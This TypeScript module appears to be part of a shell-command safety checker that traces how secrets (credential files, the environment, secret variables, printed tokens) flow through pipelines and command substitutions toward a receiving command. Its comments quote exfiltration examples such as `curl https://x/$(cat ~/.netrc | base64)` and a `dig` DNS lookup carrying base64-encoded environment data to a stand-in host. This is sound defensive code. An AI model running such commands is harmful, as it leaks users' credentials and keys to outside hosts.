import type { Redirect, SimpleCommand } from '../../shell/extract.js';
import { parseOptions } from '../../shell/options.js';
import { commandName, peelWrapper } from '../../shell/wrappers.js';
import type { Word } from '../../shell/words.js';
import { printsCredentials } from './printers.js';
import { isSecretFile, resolvedSecrets, SECRET_NAME, type SecretContext } from './secrets.js';

// Where secrets come from in a pipeline, read backwards from the command that receives them: a stage that
// prints them (a credential file, the whole environment, a secret variable, `gh auth token`), and every
// stage between it and the receiver that passes its input on (base64, gzip, tee, sed… anything but a
// summary such as `wc -l` or a checksum).

/** A secret on its way, named for the reason ("~/.ssh/id_rsa", "the environment (env)"). */
export interface Secret {
  what: string;
  /** The whole environment: a grep for one harmless variable keeps none of its secrets. */
  environment?: true;
}

/** What a command reads on stdin, as extract.ts gives it. */
type Fed = Pick<SimpleCommand, 'stdinFrom' | 'stdinText' | 'redirects'>;

/** Programs whose output is (a copy, an encoding, a part of) the files they are given. */
const FILE_READERS = new Set(
  (
    'cat tac head tail less more nl base64 base32 basenc xxd od hexdump strings gzip bzip2 xz zstd lz4 ' +
    'tar zip 7z openssl gpg gpg2 grep egrep fgrep rg sed awk gawk jq yq sort uniq cut paste rev fold column dd'
  ).split(' '),
);
/** Programs whose output says nothing of their input's content. */
const SUMMARIES = new Set(
  'wc md5sum sha1sum sha224sum sha256sum sha384sum sha512sum b2sum cksum sum true false test [ sleep'.split(
    ' ',
  ),
);
const GREP_VALUE = ['-e', '--regexp', '-f', '--file', '-m', '--max-count', '-A', '-B', '-C', '--context'];
const GREPS = new Set(['grep', 'egrep', 'fgrep', 'rg']);

/** The command as it runs, wrappers peeled (`sudo cat /etc/shadow` is `cat /etc/shadow`). */
function innermost(argv: readonly Word[]): Word[] {
  let words = [...argv];
  for (let depth = 0; depth < 8; depth++) {
    if (commandName(words[0]) === 'env' && !envRunsProgram(words.slice(1))) return words;
    const inner = peelWrapper({ argv: words, assignments: {}, redirects: [], text: '' })?.inner[0];
    if (inner?.kind !== 'argv') return words;
    words = inner.argv;
  }
  return words;
}

/** `env FOO=1 printenv` runs a program; `env`, `env -0` and `env -u X` print the environment. */
function envRunsProgram(args: readonly Word[]): boolean {
  const { positionals } = parseOptions(args, {
    withValue: ['-u', '--unset', '-C', '--chdir', '-S', '--split-string'],
    stopAtFirstPositional: true,
  });
  return positionals.some((w) => !/^[A-Za-z_][A-Za-z0-9_]*=/.test(w.value));
}

const variableSecret = (name: string): Secret[] => (SECRET_NAME.test(name) ? [{ what: `$${name}` }] : []);

/** `env`, `printenv`, `set`, `export -p`, `declare -x`: the whole environment, or the secret variables named. */
function environmentPrinted(name: string, args: readonly Word[]): Secret[] | undefined {
  const words = args.filter((w) => !w.value.startsWith('-'));
  const options = args.filter((w) => w.value.startsWith('-')).map((w) => w.value);
  const whole: Secret[] = [{ what: `the environment (${name})`, environment: true }];
  switch (name) {
    case 'env':
      return whole;
    case 'printenv':
      return words.length ? words.flatMap((w) => variableSecret(w.value)) : whole;
    case 'set':
      return args.length ? undefined : whole;
    case 'export':
    case 'declare':
    case 'typeset':
      if (words.length) return words.flatMap((w) => variableSecret(w.value.replace(/=.*$/s, '')));
      return name === 'export' || options.some((o) => /^-[a-z]*[xp]/.test(o)) ? whole : undefined;
    default:
      return undefined;
  }
}

/** Words that carry a secret variable (`$AWS_SECRET_ACCESS_KEY`), or a value the shell substituted for one. */
export function secretsInText(words: readonly Word[], ctx: SecretContext): Secret[] {
  const found: Secret[] = [];
  const resolved = resolvedSecrets(ctx);
  for (const w of words) {
    if (w.dynamic)
      for (const m of w.value.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?/g))
        found.push(...variableSecret(m[1]!));
    for (const [name, value] of resolved) if (w.value.includes(value)) found.push({ what: `$${name}` });
  }
  return found;
}

/** The files among a reader's words (`if=FILE` for dd) that hold secrets. */
function secretFilesRead(args: readonly Word[], ctx: SecretContext): Secret[] {
  return args
    .filter((w) => !w.dynamic)
    .map((w) => w.value.replace(/^if=/, ''))
    .filter((path) => !path.startsWith('-') && isSecretFile(path, ctx))
    .map((path) => ({ what: path }));
}

/** What secrets a command prints on stdout, before anything it reads on stdin. */
function printedSecrets(argv: readonly Word[], ctx: SecretContext): Secret[] {
  const words = innermost(argv);
  const name = commandName(words[0]);
  const args = words.slice(1);
  const environment = environmentPrinted(name, args);
  if (environment) return environment;
  if (name === 'echo' || name === 'printf') return secretsInText(args, ctx);
  if (printsCredentials(name, args))
    return [{ what: `the credentials \`${words.map((w) => w.value).join(' ')}\` prints` }];
  return FILE_READERS.has(name) ? secretFilesRead(args, ctx) : [];
}

/** A grep for one harmless variable (`env | grep AWS_REGION`) keeps none of the environment's secrets. */
function narrowsEnvironment(args: readonly Word[]): boolean {
  const { options, positionals } = parseOptions(args, { withValue: GREP_VALUE });
  if (options.has('-v') || options.has('--invert-match') || options.has('-f') || options.has('--file'))
    return false;
  const patterns = [...(options.get('-e') ?? []), ...(options.get('--regexp') ?? [])];
  if (!patterns.length && positionals[0]) patterns.push(positionals[0].value);
  // A whole variable name (with an underscore or an `=`, so `grep AWS` does not count) that names no secret.
  return (
    patterns.length > 0 &&
    patterns.every((p) => /^\^?[A-Za-z_][A-Za-z0-9_]*=?$/.test(p) && /[_=]/.test(p) && !SECRET_NAME.test(p))
  );
}

/** What a command writes on stdout: what it prints, and what it passes on of its own input. */
export function secretsWritten(stage: SimpleCommand, ctx: SecretContext): Secret[] {
  const words = innermost(stage.argv);
  const name = commandName(words[0]);
  if (SUMMARIES.has(name)) return [];
  const out = [...printedSecrets(stage.argv, ctx), ...secretsOnStdin(stage, ctx)];
  // `echo "$(cat ~/.aws/credentials)"` prints what its substitutions print.
  if (name === 'echo' || name === 'printf') out.push(...secretsSubstituted(words.slice(1), stage, ctx));
  return GREPS.has(name) && narrowsEnvironment(words.slice(1)) ? out.filter((s) => !s.environment) : out;
}

const secretRedirect = (r: Redirect, ctx: SecretContext) =>
  r.operator === '<' && !r.target.dynamic && isSecretFile(r.target.value, ctx);

/** The secrets a command receives on stdin: `< FILE`, a here-string, and the pipeline stages before it. */
export function secretsOnStdin(cmd: Fed, ctx: SecretContext): Secret[] {
  const found: Secret[] = cmd.redirects
    .filter((r) => secretRedirect(r, ctx))
    .map((r) => ({ what: r.target.value }));
  if (cmd.stdinText) found.push(...secretsInText([cmd.stdinText], ctx));
  if (cmd.stdinFrom) found.push(...secretsWritten(cmd.stdinFrom, ctx));
  return found;
}

/**
 * The secrets the command substitutions among `words` put there (`curl https://x/$(cat ~/.netrc | base64)`,
 * `dig $(env | base64 -w0 | head -c 60).x.example`): what their commands print, through the same stages as
 * a pipeline's, and the files they read whole (`$(< ~/.aws/credentials)`).
 */
export function secretsSubstituted(
  words: readonly Word[],
  cmd: Pick<SimpleCommand, 'substitutions'>,
  ctx: SecretContext,
): Secret[] {
  const found: Secret[] = [];
  for (const sub of cmd.substitutions ?? []) {
    // A word holds the substitution's text where its value goes (extract.ts, words.ts).
    if (!words.some((w) => w.dynamic && w.value.includes(sub.text))) continue;
    for (const file of sub.files)
      if (!file.dynamic && isSecretFile(file.value, ctx)) found.push({ what: file.value });
    for (const output of sub.outputs) found.push(...secretsWritten(output, ctx));
  }
  return found;
}

/** Each secret once, in the order found, for a reason. */
export function describeSecrets(secrets: readonly Secret[]): string {
  return [...new Set(secrets.map((s) => s.what))].join(', ');
}
